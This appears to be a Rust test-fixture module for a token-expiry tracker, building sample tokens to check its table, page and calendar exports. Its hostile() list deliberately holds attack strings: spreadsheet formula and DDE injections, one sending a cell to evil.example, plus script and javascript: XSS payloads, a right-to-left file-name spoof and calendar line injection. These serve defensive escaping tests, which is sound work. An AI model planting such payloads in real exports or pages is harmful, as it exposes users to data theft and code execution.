//! Tokens that a page, a person or a file may bring, the worst included.

use token_due::export::export;
use token_due::json;
use token_due::ledger::{Evidence, Expiry, HistoryEntry, Kind, Ledger, Moment, Provider, State, Token, What};
use token_due::page::PageText;
use token_due::protocol::{ExportFormat, ExportedFile};

use crate::remind_words::{English, at, day};

pub(crate) const NOW: &str = "2026-11-22T09:00:00Z";

fn id(number: u32) -> String {
    format!("00000000-0000-4000-8000-{number:012}")
}

/// The record of the design, field by field.
pub(crate) fn pipeline() -> Token {
    Token {
        id: id(1),
        provider: Provider::Figma,
        kind: Kind::PersonalAccessToken,
        name: PageText::new("CI pipeline"),
        app: None,
        scopes: vec![PageText::new("file_content:read"), PageText::new("file_comments:write")],
        created: Moment::At { at: at("2026-11-22T09:00:00Z") },
        expiry: Expiry::on(day("2027-02-20")),
        evidence: vec![Evidence::Form, Evidence::Request, Evidence::Reveal, Evidence::List],
        last_seen: at("2026-11-22T09:00:00Z"),
        page: "https://www.figma.com/settings".into(),
        used_in: vec![PageText::new("GitHub Actions: design-sync")],
        history: vec![HistoryEntry { at: at("2026-11-22T09:00:00Z"), what: What::Noticed, was: None }],
        ..Token::default()
    }
}

/// Every field set, every one to something else than the default.
pub(crate) fn complete() -> Token {
    let mut token = Token {
        id: id(2),
        provider: Provider::Atlassian,
        kind: Kind::ApiTokenWithScopes,
        name: PageText::new("Deploy"),
        app: Some(PageText::new("Bitbucket")),
        scopes: vec![PageText::new("read:repository:bitbucket")],
        created: Moment::On { on: day("2026-01-05") },
        expiry: Expiry::At { at: at("2026-12-01T15:30:00.250Z"), about: true },
        state: State::Active,
        evidence: vec![Evidence::List, Evidence::User],
        last_seen: at("2026-11-20T08:00:00Z"),
        page: "https://id.atlassian.com/manage-profile/security/api-tokens".into(),
        used_in: vec![PageText::new("a; b"), PageText::new(r"c:\deploy")],
        note: PageText::lines("first line\nsecond line"),
        replaced_by: Some(id(1)),
        reminders: Some(vec![30, 14, 1]),
        snoozed_until: Some(at("2026-11-23T09:00:00Z")),
        ..Token::default()
    };
    token.record(at("2026-01-05T10:00:00Z"), What::Found, None);
    token.record(at("2026-06-01T10:00:00Z"), What::DateCorrected, Some(PageText::new("2026-11-30")));
    token.answered = json::from_text(
        r#"{"at":"2026-11-22T08:00:00Z","stage":"soon","expiry":{"kind":"on","on":"2026-12-01"}}"#,
    )
    .unwrap();
    token.extra.insert("tags".into(), json::read(r#"["infra",{"depth":2}]"#).unwrap());
    token
}

/// Names that are made to break a table, a page or a calendar.
pub(crate) fn hostile() -> Vec<Token> {
    let long = "ä".repeat(500);
    let names = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "＝1+1",
        "'=1",
        "''",
        "'tis",
        "<script>alert(1)</script> & <img src=x onerror=alert(1)>",
        "a | b \\| c",
        "**bold** _it_ `code` [x](javascript:alert(1)) ![y](https://evil.example/p.png) https://evil.example www.evil.example",
        "quoted \"name\", with; separators",
        "gpj.\u{202E}exe \u{2066}x\u{2069}",
        "שלום עולם",
        "👩‍👩‍👧‍👦 Familie 🔑 naïve ﷽",
        "BEGIN:VCALENDAR\r\nEND:VEVENT",
        "\u{0}\u{7}bell\u{1b}[31m",
        long.as_str(),
        "",
    ];
    let token = |(number, name): (u32, &str)| Token {
        id: id(100 + number),
        provider: Provider::Other,
        kind: Kind::Other,
        name: PageText::new(name),
        scopes: items(&[name]),
        expiry: Expiry::on(day("2026-12-01")),
        last_seen: at(NOW),
        used_in: items(&[name, "=1+1; @x"]),
        note: PageText::lines(&format!("{name}\r\n=2+2\n\n|third|")),
        ..Token::default()
    };
    (0..).zip(names).map(token).collect()
}

fn items(raw: &[&str]) -> Vec<PageText> {
    raw.iter().map(|raw| PageText::new(raw)).filter(|item| !item.is_empty()).collect()
}

/// One token in each state and with each kind of expiry.
pub(crate) fn varied() -> Vec<Token> {
    let token = |number: u32, name: &str, expiry: Expiry, state: State| Token {
        id: id(10 + number),
        provider: Provider::TokensStudio,
        kind: Kind::ApiKey,
        name: PageText::new(name),
        created: Moment::On { on: day("2026-08-24") },
        expiry,
        state,
        last_seen: at(NOW),
        page: "https://app.tokens.studio/".into(),
        ..Token::default()
    };
    let soon = Expiry::on(day("2026-12-06"));
    vec![
        token(0, "never", Expiry::Never, State::Active),
        token(1, "unknown", Expiry::Unknown, State::Active),
        token(2, "about", Expiry::On { on: day("2027-02-20"), about: true }, State::Active),
        token(3, "urgent", Expiry::on(day("2026-11-24")), State::Active),
        token(4, "gone", Expiry::At { at: at("2026-11-20T23:30:00Z"), about: false }, State::Expired),
        token(5, "asked for", soon, State::Unconfirmed),
        token(6, "revoked", soon, State::Revoked),
        token(7, "replaced", soon, State::Replaced),
    ]
}

pub(crate) fn list(tokens: impl IntoIterator<Item = Token>) -> Ledger {
    Ledger { tokens: tokens.into_iter().collect(), ..Ledger::default() }
}

pub(crate) fn exported(ledger: &Ledger, format: ExportFormat) -> ExportedFile {
    export(ledger, format, None, at(NOW), 60, &English)
}

pub(crate) fn text(tokens: impl IntoIterator<Item = Token>, format: ExportFormat) -> String {
    exported(&list(tokens), format).text
}
